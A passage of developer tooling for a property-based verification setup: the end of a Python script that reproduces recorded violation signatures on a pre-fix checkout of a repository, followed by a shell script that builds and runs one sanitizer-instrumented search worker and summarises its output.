        scratch = tempfile.mkdtemp(prefix='iodine-prefix.', dir='/var/tmp')
        out = tempfile.mkdtemp(prefix='iodine-prefix-out.', dir='/var/tmp')
        try:
            tree = os.path.join(scratch, 'repo')
            run(['git', 'clone', '-q', '/repo', tree])
            # isolate the fix: the current tree with only this commit reverted (mutants/<PROP>-revert-<commit>.patch), when that patch
            # exists and applies; otherwise the parent of the fix (where later repairs are missing as well)
            rev = os.path.join(VERIF, 'mutants', '%s-revert-%s.patch' % (pid, commit))
            if not (os.path.exists(rev) and run(['git', '-C', tree, 'apply', rev]).returncode == 0):
                run(['git', '-C', tree, 'checkout', '-q', commit + '~1'])
            found = None
            for seed in ('1', '2', '3', '4'):
                env = dict(os.environ, VERIF_REPO=tree, VERIF_OUT=out, VERIF_SEED=seed)
                r = run([os.path.join(VERIF, 'check'), pid, '--tier', 'quick'], env=env)
                for line in r.stdout.splitlines():
                    if line.startswith('VIOLATION') and ('signature=' + sig) in line:
                        found = line.split('replay=')[1].split()[0]
                if found:
                    break
            if not found:
                print('%s %s: signature %s not reproduced on the pre-fix tree' % (pid, commit, sig))
                continue
            os.makedirs(os.path.dirname(dst), exist_ok=True)
            found = found if os.path.isabs(found) else os.path.join(VERIF, found)
            if os.path.abspath(found) != os.path.abspath(dst):
                shutil.copy(found, dst)
            r1 = run([os.path.join(VERIF, 'check'), pid, '--replay', dst], env=dict(os.environ, VERIF_REPO=tree))
            r2 = run([os.path.join(VERIF, 'check'), pid, '--replay', dst])
            print('%s %s -> %s : pre-fix %s, current tree %s' % (pid, commit, k['replay'], 'FAILS' if r1.returncode else 'passes(!)', 'passes' if r2.returncode == 0 else 'FAILS(!)'))
        finally:
            shutil.rmtree(scratch, ignore_errors=True)
            shutil.rmtree(out, ignore_errors=True)


if __name__ == '__main__':
    main()
