#!/bin/sh
# trial.sh <prop-bin-name> <PROP> [seed] [cases] [budget]  -- one search worker, prints summary (development aid)
b=$1; P=$2; seed=${3:-5}; cases=${4:-300}; budget=${5:-60}
exe=$(python3 -c "
import sys; sys.path.insert(0,'/verif'); import vbuild; from props_table import PROPS
P=PROPS['$P']; print(vbuild.build_binary(P['bin'],P['sources'],P.get('flavour','rc'),unit_objs=P.get('unit_objs',()),images=P.get('images',()),rapidcheck=True))" 2>&1 | tail -1)
[ -x "$exe" ] || { echo "build failed: $exe"; python3 -c "
import sys; sys.path.insert(0,'/verif'); import vbuild; from props_table import PROPS
P=PROPS['$P']; vbuild.build_binary(P['bin'],P['sources'],P.get('flavour','rc'),unit_objs=P.get('unit_objs',()),images=P.get('images',()),rapidcheck=True)" 2>&1 | grep -E "error|Error" | head -20; exit 2; }
mkdir -p /tmp/w/$b.$seed; cd /tmp/w/$b.$seed
start=$(date +%s)
ASAN_OPTIONS=detect_leaks=0:quarantine_size_mb=16:detect_stack_use_after_return=0:malloc_context_size=0 $exe search --seed $seed --cases $cases --out out.json --faildir . --budget $budget > log 2>&1
echo "exit=$? wall=$(( $(date +%s) - start ))s"
grep -E "SUMMARY|runtime error|SEARCH-" log | cut -c1-400 | head -5
grep -E "^\s+#[0-9]+ " log | grep -v "rc::\|std::\|rapidcheck\|harness_main\|libc\|_start" | cut -c1-200 | head -8
python3 - <<PY
import json,os
if os.path.exists('out.json'):
    j=json.load(open('out.json')); print('$b eval',j['evaluations'],'nontrivial',j['nontrivial'],j['classes'])
    f=j.get('failure')
    if f: print('FAIL:',f['signature'],'|',f['why'][:2500])
    elif j['samples']: print(j['samples'][0][:1500])
PY
